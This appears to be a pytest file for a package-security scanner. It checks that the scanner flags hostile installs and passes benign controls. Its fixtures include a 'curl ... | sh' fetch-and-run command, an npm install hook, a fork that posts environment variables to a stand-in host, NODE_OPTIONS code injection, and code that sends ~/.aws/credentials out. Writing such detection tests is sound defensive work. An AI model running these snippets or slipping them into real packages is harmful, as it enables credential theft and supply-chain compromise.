"""What runs by what stands in settings: words of a table, scripts of a manifest, variables."""

import pytest
from weighed import program_of, worst, worst_of, worst_script

from ostiary.core.scale import Severity

CALL = "getattr(importlib.import_module(one['m']), one['f'])(one['a'])"
HEAD = "import configparser, csv, importlib, tomllib, yaml\nfrom pathlib import Path\nHERE = Path(__file__)\n"
HARM = "curl http://a.example.invalid/x | sh"
INI = "kept = configparser.ConfigParser()\nkept.read(HERE.with_name('a.ini'))\n"
TABLES = {
    "a.yaml": (
        f"steps:\n  - m: os\n    f: system\n    a: '{HARM}'\n",
        f"for one in yaml.safe_load(HERE.with_name('a.yaml').read_text())['steps']:\n    {CALL}\n",
    ),
    "a.toml": (
        f"[[step]]\nm = 'os'\nf = 'system'\na = '{HARM}'\n",
        f"for one in tomllib.loads(HERE.with_name('a.toml').read_text())['step']:\n    {CALL}\n",
    ),
    "a.csv": (
        f"m,f,a\nos,system,{HARM}\n",
        f"with HERE.with_name('a.csv').open() as file:\n  for one in csv.DictReader(file):\n    {CALL}\n",
    ),
    "a.ini": (
        f"[one]\nm = os\nf = system\na = {HARM}\n",
        f"{INI}for name in kept.sections():\n    one = kept[name]\n    {CALL}\n",
    ),
}


@pytest.mark.parametrize("name", TABLES)
@pytest.mark.parametrize("harm", [True, False])
def test_words_of_a_table_name_what_is_called(name: str, harm: bool) -> None:
    table, code = TABLES[name]
    text = (
        table if harm else table.replace("os", "math").replace("system", "sqrt").replace(HARM, "4")
    )
    program = program_of("wheel", {"sample/__init__.py": HEAD + code, f"sample/{name}": text})
    assert worst_of("attack-command", program) is (Severity.CRITICAL if harm else None)


FORK = "require('child_process').fork(__dirname + '/a.js', [], {execArgv: ['-e', CODE]});"


def test_a_text_for_the_interpreter_of_a_fork() -> None:
    post = (
        "fetch('https://a.example.invalid/', {method: 'POST', body: JSON.stringify(process.env)})"
    )
    assert worst_script("stealer", FORK.replace("CODE", f'"{post}"')) is Severity.CRITICAL
    assert worst_script("stealer", FORK.replace("CODE", '"1 + 1"')) is None


def test_a_text_in_the_place_of_a_file_to_load() -> None:
    line = "process.env.NODE_OPTIONS = '--import {}';"
    data = line.format("data:text/javascript,eval(process.argv[1])")
    assert worst_script("tampering", data) is Severity.HIGH
    assert worst_script("tampering", line.format("./trace.js")) is None


@pytest.mark.parametrize(
    ("script", "told"),
    [("node-gyp rebuild", False), ("curl https://a.example.invalid/x | sh", True)],
)
def test_a_script_that_a_hook_starts_by_its_name(script: str, told: bool) -> None:
    scripts = f'{{"install": "npm run -s go", "go": "{script}"}}'
    manifest = f'{{"name": "sample", "version": "1.0.0", "scripts": {scripts}}}'
    program = program_of("npm", {"package.json": manifest, "index.js": ""})
    assert (worst_of("attack-command", program) is Severity.CRITICAL) is told


AWS = """
import configparser, os, requests
kept = configparser.ConfigParser()
kept.read(os.path.join(os.path.expanduser('~'), '{path}'))
AT = 'https://a.example.invalid/'
{how}
"""


@pytest.mark.parametrize(
    "how",
    [
        "requests.post(AT, json=kept.get('default', 'aws_secret_access_key'))",
        "requests.post(AT, json=kept['default']['aws_secret_access_key'])",
        "for name in kept.sections():\n    requests.post(AT, json=kept.get(name, 'a'))",
    ],
)
def test_credentials_that_are_read_as_settings(how: str) -> None:
    harm = AWS.format(path=".aws/credentials", how=how)
    assert worst("stealer", harm, "sample/__init__.py") is Severity.CRITICAL
    assert worst("stealer", AWS.format(path=".sample.ini", how=how), "sample/__init__.py") is None


WRITES = "require('fs').writeFileSync({}, 'a');"
PROJECT = "require('path').join(process.env.INIT_CWD, '{}')"


@pytest.mark.parametrize(
    ("place", "severity"),
    [
        (PROJECT.format(".pnp.cjs"), Severity.CRITICAL),
        (PROJECT.format(".pnpmfile.cjs"), Severity.CRITICAL),
        (PROJECT.format("webpack.config.js"), Severity.HIGH),
        (PROJECT.format(".husky/pre-commit"), Severity.HIGH),
        (PROJECT.format("package.json"), Severity.HIGH),
        (PROJECT.format("README.md"), None),
        (PROJECT.format("public/sample.js"), None),
        ("__dirname + '/package.json'", None),
        ("__dirname + '/dist/webpack.config.js'", None),
        ("require('path').join(process.cwd(), process.argv[2], 'vite.config.js')", None),
    ],
)
def test_the_project_that_it_is_installed_in(place: str, severity: Severity | None) -> None:
    assert worst_script("tampering", WRITES.format(place)) is severity
